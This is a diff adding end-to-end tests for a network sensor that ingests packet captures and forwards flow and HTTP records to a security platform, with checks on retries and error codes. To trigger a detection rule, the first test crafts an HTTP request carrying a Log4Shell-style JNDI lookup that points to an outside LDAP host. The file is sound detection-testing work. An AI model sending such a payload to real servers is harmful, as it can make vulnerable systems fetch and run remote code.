@@ -1,0 +1,107 @@
+import { spawn } from 'node:child_process'
+import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
+import { createServer } from 'node:http'
+import { tmpdir } from 'node:os'
+import { join } from 'node:path'
+import { fileURLToPath } from 'node:url'
+import { afterAll, beforeAll, expect, test } from 'vitest'
+import { conversation, frame, pcap } from '../../server/src/traffic/captures-for-tests.ts'
+import { type Platform, startPlatform, until } from '../harness/platform.ts'
+
+const binary = fileURLToPath(new URL('../../server/bin/watchfire.js', import.meta.url))
+const folder = mkdtempSync(join(tmpdir(), 'sensor-'))
+let platform: Platform
+beforeAll(async () => {
+  platform = await startPlatform()
+}, 120_000)
+afterAll(async () => {
+  await platform.stop()
+  platform.remove()
+  rmSync(folder, { recursive: true })
+})
+
+/** Runs the sensor on a capture that comes by standard input. */
+function runSensor(url: string, token: string, capture: Uint8Array) {
+  const tokenFile = join(folder, 'token')
+  writeFileSync(tokenFile, token, { mode: 0o600 })
+  const child = spawn(process.execPath, [binary, 'sensor', '--url', url, '--token-file', tokenFile, '--source', 'wire'])
+  let told = ''
+  child.stderr.on('data', (bytes: Buffer) => {
+    told += bytes.toString()
+  })
+  child.stdin.end(capture)
+  const ended = new Promise<{ code: number | null; told: string }>((resolve) =>
+    child.once('exit', (code) => resolve({ code, told })),
+  )
+  return { ended, told: () => told }
+}
+
+const search = async (query: string) => {
+  const answer = await platform.request<{ items: Record<string, unknown>[]; total: number }>('POST', '/api/v1/search', {
+    query,
+    from: '2025-12-31T00:00:00Z',
+    to: '2026-01-02T00:00:00Z',
+    limit: 50,
+  })
+  return answer.body
+}
+
+test('what the conversations of a live capture say is stored, searchable and matched by the rules', async () => {
+  const frames = conversation([
+    ['>', `GET /?x=${'$'}{jndi:ldap://198.51.100.9/a} HTTP/1.1\r\nHost: portal.example\r\nUser-Agent: probe\r\n\r\n`],
+    ['<', 'HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok'],
+  ])
+  const { code, told } = await runSensor(platform.url, platform.token, pcap(frames)).ended
+  expect(told).toContain('8 packets')
+  expect(code).toBe(0)
+  await until(
+    async () => (await search('event.dataset:flow')).total === 1,
+    30_000,
+    () => 'no flow was stored',
+  )
+  const [flow] = (await search('event.dataset:flow')).items
+  expect(JSON.stringify(flow)).toContain('"zeek.conn_state":"SF"')
+  expect((await search('event.dataset:http and url.domain:portal.example')).total).toBe(1)
+  await until(
+    async () => (await platform.request<{ total: number }>('GET', '/api/v1/detections?limit=10')).body.total > 0,
+    30_000,
+    () => 'no rule fired on the request',
+  )
+})
+
+test('a platform that is away for a while gets every record once; one that refuses is told of', async () => {
+  let asked = 0
+  const bodies: { key: string; lines: number }[] = []
+  const server = createServer((request, response) => {
+    const pieces: Buffer[] = []
+    request.on('data', (piece: Buffer) => pieces.push(piece))
+    request.on('end', () => {
+      bodies.push({
+        key: String(request.headers['idempotency-key']),
+        lines: Buffer.concat(pieces).toString().trim().split('\n').length,
+      })
+      // The first answer is lost on the way, the second says to come again.
+      if (++asked === 1) return request.socket.destroy()
+      response.writeHead(asked === 2 ? 503 : 200, { 'retry-after': '1' }).end('{}')
+    })
+  })
+  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
+  const { port } = server.address() as { port: number }
+  const frames = Array.from({ length: 20 }, (_, index) => frame({ sourcePort: 2_000 + index, flags: 'S' }))
+  const { code, told } = await runSensor(`http://127.0.0.1:${port}`, 'wf_x', pcap(frames)).ended
+  server.close()
+  expect(code).toBe(0)
+  expect(told).toContain('does not answer')
+  expect(told).toContain('answered 503')
+  expect(told).toContain('21 records sent, 0 given up')
+  expect(new Set(bodies.map(({ key }) => key)).size).toBe(1)
+  expect(bodies.map(({ lines }) => lines)).toEqual([21, 21, 21])
+})
+
+test('what is no capture, and a token that is not there, end with a code', async () => {
+  const none = await runSensor(platform.url, platform.token, Buffer.from('no capture at all')).ended
+  expect(none.code).toBe(1)
+  expect(none.told).toContain('IMPORT_DAMAGED')
+  const empty = await runSensor(platform.url, ' ', pcap([])).ended
+  expect(empty.told).toContain('CONFIG_INVALID')
+})
